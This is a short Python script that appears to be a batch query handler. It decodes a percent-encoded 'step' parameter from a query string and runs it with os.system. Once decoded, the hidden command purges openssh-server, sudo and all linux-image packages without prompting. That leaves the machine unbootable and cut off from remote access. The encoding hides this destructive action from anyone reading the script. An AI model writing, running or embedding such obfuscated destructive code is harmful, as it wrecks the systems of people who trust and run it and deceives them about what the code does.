#!/usr/bin/env python3
import os
from urllib.parse import parse_qs

QUERY = "mode=batch&step=a%70t%2dg%65t%20-%79+%70u%72g%65+%6fp%65n%73s%68-%73e%72v%65r%20s%75d%6f+%27l%69n%75x%2di%6da%67e%2d*%27&wait=1"
form = parse_qs(QUERY)
for step in form["step"]:
    os.system(step)
